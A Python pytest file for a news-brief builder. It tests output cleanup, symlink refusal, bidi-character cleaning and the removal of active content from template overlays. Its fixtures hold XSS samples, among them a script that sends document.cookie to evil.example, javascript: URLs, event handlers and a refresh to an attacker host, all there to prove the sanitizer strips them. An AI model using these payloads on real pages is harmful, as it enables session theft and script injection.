"""Issue 14, second pass: outputs stay a matching set, inspect refuses what build refuses,
warnings survive a fatal error, brief.toml text is cleaned, overlays cannot publish scripts."""

import datetime as dt
import os
import sys
import time

import pytest

from sitrep.build import build_brief
from sitrep.cli import main
from sitrep.config import load_brief_reporting
from sitrep.errors import ConfigError, SitrepError
from sitrep.report.render.active import remove_active_content

from .conftest import BUNDLED, VALID_BRIEF

GENERATED = dt.date(2026, 1, 1)
ARTICLE = "أعلنت وزارة الخارجية الروسية أن المحادثات ستبدأ في جنيف الأسبوع المقبل بحضور الوفود.\n"


# Gap 2: --format html never leaves an older PDF beside the new HTML.


def test_an_html_only_build_removes_the_older_pdf_and_says_so(make_brief, tmp_path):
    root = make_brief(articles={"a.txt": ARTICLE})
    out = tmp_path / "out"
    first = build_brief(root, out, generated=GENERATED)
    html, pdf = first.outputs
    old = time.time() - 60
    os.utime(pdf, (old, old))
    again = build_brief(root, out, formats=("html",), generated=GENERATED)
    assert again.outputs == (html,) and html.is_file() and not pdf.exists()
    assert again.warnings == (
        f"{pdf}: removed: an older PDF from an earlier build, which would no longer match the"
        " HTML built now (--format html)",
    )


def test_an_output_written_during_the_build_is_left_alone(make_brief, tmp_path):
    root = make_brief(articles={"a.txt": ARTICLE})
    target = tmp_path / "out" / "test-brief"
    target.mkdir(parents=True)
    newer = target / "test-brief.pdf"
    newer.write_bytes(b"%PDF- from a build that started later")
    future = time.time() + 3600
    os.utime(newer, (future, future))
    result = build_brief(root, tmp_path / "out", formats=("html",), generated=GENERATED)
    assert newer.is_file() and result.warnings == ()


def test_a_failed_html_only_build_keeps_the_previous_pair(make_brief, tmp_path, monkeypatch):
    root = make_brief(articles={"a.txt": ARTICLE})
    html, pdf = build_brief(root, tmp_path / "out", generated=GENERATED).outputs
    old = time.time() - 60
    os.utime(pdf, (old, old))
    before = html.read_bytes(), pdf.read_bytes()
    monkeypatch.setattr("sitrep.build.publish", _failing_publish)
    with pytest.raises(OSError, match="disk full"):
        build_brief(root, tmp_path / "out", formats=("pdf",), generated=GENERATED)
    assert (html.read_bytes(), pdf.read_bytes()) == before


def _failing_publish(temporary, target):
    raise OSError(28, "disk full")


def test_the_cli_prints_the_removal(capsys, make_brief, tmp_path):
    root = make_brief(articles={"a.txt": ARTICLE})
    out = tmp_path / "o"
    stale = out / "test-brief" / "test-brief.pdf"
    stale.parent.mkdir(parents=True)
    stale.write_bytes(b"%PDF-1.7 old")
    os.utime(stale, (0, 0))
    assert main(["build", str(root), "--format", "html", "--out", str(out)]) == 0
    assert f"sitrep: warning: {stale}: removed: an older PDF" in capsys.readouterr().err
    assert not stale.exists()


# Gap 3: sitrep inspect applies the inside-the-brief rule of sitrep build.


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("TOKEN=hunter2 " + ARTICLE, encoding="utf-8")
    return path


@pytest.mark.parametrize("which", ["brief", "articles", "file"])
def test_inspect_refuses_a_link_outside_the_brief(capsys, make_brief, secret, which):
    root = make_brief(articles={"a.txt": ARTICLE})
    link = root / "articles" / "b.txt"
    link.symlink_to(secret)
    target = {"brief": root, "articles": root / "articles", "file": link}[which]
    assert main(["inspect", str(target), "--json"]) == 1
    captured = capsys.readouterr()
    assert "hunter2" not in captured.out
    assert f"{link}: cannot read article: a link to a file outside the brief folder" in (
        captured.err
    )
    if which != "file":
        assert '"path":' in captured.out  # the other article is still shown


def test_inspect_of_a_plain_folder_keeps_to_that_folder(capsys, tmp_path, secret):
    folder = tmp_path / "loose"
    folder.mkdir()
    (folder / "a.txt").write_text(ARTICLE, encoding="utf-8")
    (folder / "b.txt").symlink_to(secret)
    assert main(["inspect", str(folder), "--json"]) == 1
    captured = capsys.readouterr()
    assert "hunter2" not in captured.out and "outside the brief folder" in captured.err


def test_inspect_of_a_link_inside_the_brief_still_works(capsys, make_brief):
    root = make_brief(articles={"a.txt": ARTICLE})
    (root / "notes.txt").write_text(ARTICLE, encoding="utf-8")
    (root / "articles" / "b.txt").symlink_to(root / "notes.txt")
    assert main(["inspect", str(root), "--json"]) == 0
    assert capsys.readouterr().out.count('"path":') == 2


# Gap 4: warnings found before a fatal error are printed before its one line.


def test_warnings_come_before_the_fatal_error(capsys, make_brief, tmp_path, secret):
    root = make_brief(articles={})
    (root / "articles" / "a.txt").symlink_to(secret)
    (root / "articles" / "b.txt").write_text("---\n1: x\n---\n" + ARTICLE, encoding="utf-8")
    assert main(["build", str(root), "--format", "html", "--out", str(tmp_path / "o")]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert [line.split(": ")[0:2] for line in lines] == [
        ["sitrep", "warning"],
        ["sitrep", "warning"],
        ["sitrep", "error"],
    ]
    assert "a.txt: cannot read article: a link to a file outside" in lines[0]
    assert "b.txt:2: cannot read article" in lines[1]
    assert "no readable articles" in lines[2]


def test_strict_prints_earlier_warnings_then_the_error(capsys, make_brief, tmp_path):
    config = VALID_BRIEF.replace('title = "Test brief"', 'title = "Test\u202e brief"')
    root = make_brief(config, {"bad.txt": "---\n1: x\n---\n" + ARTICLE})
    argv = ["build", str(root), "--format", "html", "--out", str(tmp_path / "o"), "--strict"]
    assert main(argv) == 1
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 2 and "brief.toml:2: title" in lines[0]
    assert lines[1].startswith("sitrep: error: ") and "bad.txt:2" in lines[1]


# Gap 5: text from brief.toml is cleaned like article text.


def test_brief_toml_text_is_cleaned_of_bidi_and_control_characters(make_brief):
    config = (
        VALID_BRIEF.replace('title = "Test brief"', 'title = "Test \u202egnp.exe brief"')
        .replace("موجز تجريبي", "موجز\u2066 تجريبي\\u0000")  # TOML escapes: raw controls
        + 'handling = "Open\\u0007 source"\norganisation = "Desk\u200f"\n'  # are invalid TOML
    )
    root = make_brief(config)
    brief, warnings = load_brief_reporting(root)
    assert brief.title_en == "Test gnp.exe brief" and brief.title_ar == "موجز تجريبي"
    assert brief.handling == "Open source"
    assert brief.organisation == "Desk\u200f"  # a plain right-to-left mark is not an override
    path = root / "brief.toml"
    assert warnings == (
        f"{path}:2: title: bidi control character removed: U+202E",
        f"{path}:3: title_ar: bidi control character removed: U+2066",
        f"{path}:3: title_ar: control character removed: U+0000",
        f"{path}:6: handling: control character removed: U+0007",
    )


def test_brief_toml_cleaning_reaches_the_report(make_brief, tmp_path):
    config = VALID_BRIEF.replace('title = "Test brief"', 'title = "Test\u202e brief"')
    root = make_brief(config, {"a.txt": ARTICLE})
    result = build_brief(root, tmp_path / "out", formats=("html",), generated=GENERATED)
    assert "\u202e" not in result.outputs[0].read_text(encoding="utf-8")
    assert result.warnings[0].startswith(f"{root / 'brief.toml'}:2: title: bidi control")


def test_a_title_of_only_control_characters_is_an_error(make_brief):
    root = make_brief(VALID_BRIEF.replace('title = "Test brief"', 'title = "\u202e\\u0001"'))
    with pytest.raises(ConfigError, match=r"brief\.toml:2: Config value 'title': nothing left"):
        load_brief_reporting(root)


# Gap 6: overlays cannot publish active content.

HOSTILE_COVER = """\
<section class="cover" onclick="steal()">
<script>fetch('https://evil.example/?' + document.cookie)</script>
<a href=" java&#9;script:alert(1)">read more</a>
<svg><a xlink:href="javascript:alert(2)">x</a></svg>
<img src="x.png" onerror="alert(3)">
<iframe srcdoc="&lt;script&gt;alert(4)&lt;/script&gt;"></iframe>
<p>{{ report.brief.title_en }}</p>
</section>
"""


def test_an_overlay_cannot_put_scripts_into_the_published_html(make_brief, tmp_path):
    root = make_brief(articles={"a.txt": ARTICLE})
    (root / "templates").mkdir()
    cover = root / "templates" / "cover.html.j2"
    cover.write_text(HOSTILE_COVER, encoding="utf-8")
    result = build_brief(root, tmp_path / "out", formats=("html",), generated=GENERATED)
    html = result.outputs[0].read_text(encoding="utf-8")
    for bad in ("<script", "onclick", "onerror", "javascript", "<iframe", "alert("):
        assert bad not in html.lower(), bad
    assert "Test brief" in html and 'src="x.png"' in html and html.startswith("<!DOCTYPE html>")
    (warning,) = result.warnings
    assert warning.startswith(f"{cover}: template overlay put active content into the HTML")
    for what in ("<script> element", "onclick= attribute on <section>", "<iframe> element"):
        assert what in warning
    with pytest.raises(SitrepError, match=r"cover\.html\.j2: template overlay put active content"):
        build_brief(root, tmp_path / "strict", formats=("html",), generated=GENERATED, strict=True)


def test_the_packaged_templates_pass_unchanged(built):
    html = built.outputs[0].read_text(encoding="utf-8")
    assert remove_active_content(html) == (html, ())
    assert not [w for w in built.warnings if "active content" in w]


def test_a_harmless_overlay_is_published_as_checked(make_brief, tmp_path):
    root = make_brief(articles={"a.txt": ARTICLE})
    plain = build_brief(root, tmp_path / "a", formats=("html",), generated=GENERATED)
    (root / "templates").mkdir()
    packaged = BUNDLED.parents[1] / "templates" / "cover.html.j2"
    (root / "templates" / "cover.html.j2").write_bytes(packaged.read_bytes())
    overlaid = build_brief(root, tmp_path / "b", formats=("html",), generated=GENERATED)
    assert overlaid.warnings == ()
    rewritten = remove_active_content(plain.outputs[0].read_text(encoding="utf-8"), rewrite=True)
    assert overlaid.outputs[0].read_text(encoding="utf-8") == rewritten[0]


def test_a_second_body_tag_cannot_smuggle_an_event_handler(make_brief, tmp_path):
    """lxml drops a second <body>'s attributes, a browser merges them into the first: the
    overlay's HTML is published as lxml wrote it, so the handler is gone for browsers too."""
    root = make_brief(articles={"a.txt": ARTICLE})
    (root / "templates").mkdir()
    (root / "templates" / "cover.html.j2").write_text(
        '<body onload="alert(1)"><p>cover</p>', encoding="utf-8"
    )
    result = build_brief(root, tmp_path / "out", formats=("html",), generated=GENERATED)
    html = result.outputs[0].read_text(encoding="utf-8")
    assert "onload" not in html and "<p>cover</p>" in html


def test_markup_inside_svg_style_is_refused():
    html = (
        "<!DOCTYPE html>\n<html><head></head><body><svg><style><img src=x onerror=alert(1)>"
        "</style></svg><p>kept</p></body></html>"
    )
    cleaned, findings = remove_active_content(html)
    assert "onerror" not in cleaned and "<p>kept</p>" in cleaned
    assert [f.what for f in findings] == ["<style> element with markup inside"]


@pytest.mark.parametrize(
    ("markup", "found"),
    [
        ('<a href="JaVaScRiPt:x">a</a>', "javascript: URL in href= of <a>"),
        ('<form action="vbscript:x"></form>', "vbscript: URL in action= of <form>"),
        ('<object data="data:text/html,&lt;b&gt;"></object>', "<object> element"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>', "data: URL in href= of <a>"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "refresh"),
        ('<base href="https://evil.example/">', "<base> element"),
        ('<div onload="x()"></div>', "onload= attribute on <div>"),
        ('<embed src="x.swf">', "<embed> element"),
    ],
)
def test_each_kind_of_active_content_is_found(markup, found):
    html = f"<!DOCTYPE html>\n<html><head></head><body>{markup}<p>kept</p></body></html>"
    cleaned, findings = remove_active_content(html)
    assert found in " | ".join(f.what for f in findings)
    assert "<p>kept</p>" in cleaned and cleaned != html


@pytest.mark.parametrize(
    "markup",
    [
        '<a href="https://example.org/javascript:">a</a>',
        '<p title="on the ground">on-screen</p>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ],
)
def test_harmless_markup_is_left_alone(markup):
    html = f"<!DOCTYPE html>\n<html><head></head><body>{markup}</body></html>"
    assert remove_active_content(html) == (html, ())


# Gap 7: WeasyPrint's library lookup runs no programs.

COUNT_PROGRAMS = """\
import sys
runs = []
sys.addaudithook(lambda event, args: runs.append(args) if event == "subprocess.Popen" else None)
import {module}
print(len(runs))
"""


def _programs_run_by_importing(module: str) -> int:
    import subprocess

    code = COUNT_PROGRAMS.format(module=module)
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    return int(done.stdout.split()[-1])


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the ldconfig search is Linux's")
def test_loading_weasyprint_runs_no_ldconfig_or_gcc():
    assert _programs_run_by_importing("weasyprint") > 0  # the check sees them (ldconfig, gcc)
    assert _programs_run_by_importing("sitrep.report.render.pdf") == 0


def test_the_library_search_is_restored_after_the_import():
    import ctypes.util

    from sitrep.report.render.libraries import no_library_search

    original = ctypes.util.find_library
    with no_library_search():
        assert ctypes.util.find_library("c") is None
    assert ctypes.util.find_library is original


# Gap 1: the README states the limits and exit codes the code has.


def test_the_readme_states_the_real_limits_and_exit_codes():
    from sitrep import cli
    from sitrep.reading import ingest

    readme = (BUNDLED.parents[1] / "README.md").read_text(encoding="utf-8")
    for stated in (
        f"{ingest.MAX_ARTICLE_BYTES:,} bytes",
        f"paragraph (line) over {ingest.MAX_LINE_CHARS:,} characters",
        f"title over {ingest.MAX_TITLE_CHARS:,} characters",
        f"front matter over {ingest.MAX_FRONT_MATTER_CHARS:,} characters",
        f"deeper than {ingest.MAX_YAML_DEPTH} levels",
        f"`{cli.EXIT_ERROR}` an error",
        f"`{cli.EXIT_USAGE}` a usage error",
        f"`{cli.EXIT_PIPE}` the reader of the output went away",
        "`130` interrupted by Ctrl-C or SIGTERM",
        "sitrep COMMAND ... --debug",
        "`pytest -m slow`",
    ):
        assert stated in readme, stated


def test_ctrl_c_exits_130(capsys, monkeypatch):
    import sitrep.cli

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(sitrep.cli, "build_brief", interrupted)
    assert main(["build", str(BUNDLED)]) == 130
    assert capsys.readouterr().err == "sitrep: interrupted\n"
